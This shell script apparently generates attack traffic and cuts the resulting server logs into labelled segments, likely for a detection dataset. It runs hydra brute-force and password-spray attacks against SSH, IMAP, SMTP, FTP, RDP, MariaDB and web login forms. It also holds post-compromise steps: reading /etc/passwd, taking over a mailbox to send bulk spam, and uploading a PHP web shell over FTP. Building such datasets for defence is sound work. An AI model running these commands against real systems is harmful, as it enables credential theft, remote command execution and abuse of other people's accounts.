# Password guessing and what follows it, against sshd, Dovecot, Postfix, vsftpd, xrdp, MariaDB and the portal.

# -I: ignore an old restore file; -t: connections at once; -f: stop at the first success
guess="timeout 90 hydra -I -q -w 10"

printf '123456\npassword\nadmin@123\nAbc@12345\nqwerty\n1q2w3e4r\nVietnam@123\nAdmin@2025\nroot\ntoor\n111111\nletmein\nP@ssw0rd\nubuntu\nadmin123\nxa@2026\n' > /tmp/passwords.txt
printf 'admin\ntest\noracle\nnvan\nttbinh\nlthoa\npmduc\nftpuser\npostgres\nquantri\nguest\nketoan\n' > /tmp/users.txt

from 198.51.100.7
cut_begin ssh-bruteforce
$guess -t 4 -l root -P /tmp/passwords.txt ssh://$SERVER > /dev/null 2>&1 || true
cut_end ssh-bruteforce auth.log auth-traditional.log

from 198.51.100.8
cut_begin ssh-spray
$guess -t 4 -L /tmp/users.txt -p 'Vietnam@2026' ssh://$SERVER > /dev/null 2>&1 || true
cut_end ssh-spray auth.log

from 198.51.100.7
cut_begin ssh-guess-success
{ head -n 9 /tmp/passwords.txt; echo '123456a@'; } > /tmp/passwords2.txt
$guess -t 2 -f -l ttbinh -P /tmp/passwords2.txt ssh://$SERVER > /dev/null 2>&1 || true
ssh_guess ttbinh '123456a@' 198.51.100.7 'id; cat /etc/passwd; uname -a'
cut_end ssh-guess-success auth.log

cut_begin ssh-distributed
for host in 71 72 73 74 75 76 77 78; do
    ssh_guess quantri "Quantri@$host" 198.51.100.$host
done
cut_end ssh-distributed auth.log

cut_begin ssh-root-password
ssh_guess root 'R00t-thu-nghiem' 198.51.100.9 'id'
cut_end ssh-root-password auth.log

cut_begin ssh-probe
for text in 'GET / HTTP/1.1' '\026\003\001\002' 'MGLNDD_203.0.113.10_22' 'x'; do
    printf "$text\r\n\r\n" | timeout 3 nc -s 198.51.100.9 -w 2 $SERVER 22 > /dev/null 2>&1 || true
done
ssh -n -b 198.51.100.9 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o KexAlgorithms=diffie-hellman-group1-sha1 \
    x@$SERVER > /dev/null 2>&1 || true
cut_end ssh-probe auth.log

from 198.51.100.7
cut_begin imap-bruteforce
$guess -t 16 -l lthoa -P /tmp/passwords.txt imap://$SERVER > /dev/null 2>&1 || true
cut_end imap-bruteforce mail.log auth.log

from 198.51.100.8
cut_begin imap-spray
$guess -t 12 -L /tmp/users.txt -p 'Vietnam@2026' imap://$SERVER > /dev/null 2>&1 || true
cut_end imap-spray mail.log auth.log

from 198.51.100.7
cut_begin smtp-bruteforce
$guess -t 2 -l nvan -P /tmp/passwords.txt smtp://$SERVER > /dev/null 2>&1 || true
cut_end smtp-bruteforce mail.log auth.log

cut_begin mail-takeover
head -n 9 /tmp/passwords.txt > /tmp/passwords3.txt
$guess -t 9 -l ttbinh -P /tmp/passwords3.txt imap://$SERVER > /dev/null 2>&1 || true
sleep 3
imap_login ttbinh '123456a@' 198.51.100.7
for host in 72 73 74; do
    imap_login ttbinh '123456a@' 198.51.100.$host
done
round=0
while [ $round -lt 12 ]; do
    mail_send ttbinh '123456a@' 198.51.100.72 a$round@nan-nhan.example b$round@nan-nhan.example \
        c$round@nan-nhan.example d$round@nan-nhan.example e$round@nan-nhan.example
    round=$((round + 1))
done
cut_end mail-takeover mail.log auth.log

from 198.51.100.7
cut_begin ftp-bruteforce
$guess -t 4 -l nvan -P /tmp/passwords.txt ftp://$SERVER > /dev/null 2>&1 || true
cut_end ftp-bruteforce vsftpd.log auth.log

cut_begin ftp-webshell
echo '<?php system($_GET["c"]);' > /tmp/cache.php
curl -s --interface 198.51.100.7 -T /tmp/cache.php "ftp://$SERVER/cache.php" -u 'nvan:Hoasen@2026' || true
cut_end ftp-webshell vsftpd.log auth.log

cut_begin rdp-bruteforce
for word in 123456 admin@123 Abc@12345 qwerty Vietnam@123 P@ssw0rd; do
    timeout 8 xvfb-run -a xfreerdp /v:$SERVER /u:quantri /p:$word /cert:ignore /sec:tls > /dev/null 2>&1 || true
done
cut_end rdp-bruteforce xrdp-sesman.log auth.log syslog

cut_begin mysql-bruteforce
for word in $(cat /tmp/passwords.txt); do
    mariadb -h $SERVER -u root -p"$word" -e 'SELECT 1' > /dev/null 2>&1 || true
done
cut_end mysql-bruteforce mysql/error.log

from 198.51.100.7
cut_begin web-login-bruteforce
$guess -t 4 -l vanthu -P /tmp/passwords.txt $SERVER http-post-form \
    '/dang-nhap.php:ten=^USER^&mat_khau=^PASS^:F=Sai' > /dev/null 2>&1 || true
$guess -t 4 -l admin -P /tmp/passwords.txt $SERVER http-post-form \
    '/dang-nhap.php:ten=^USER^&mat_khau=^PASS^:F=Sai' > /dev/null 2>&1 || true
curl -s -o /dev/null --interface 198.51.100.7 -d 'ten=vanthu&mat_khau=Vanthu@2026' http://$SERVER/dang-nhap.php || true
cut_end web-login-bruteforce nginx/access.log

from 198.51.100.7
cut_begin web-basic-bruteforce
$guess -t 4 -l kho -P /tmp/passwords.txt $SERVER http-get /quan-tri-kho/ > /dev/null 2>&1 || true
cut_end web-basic-bruteforce nginx/access.log nginx/error.log
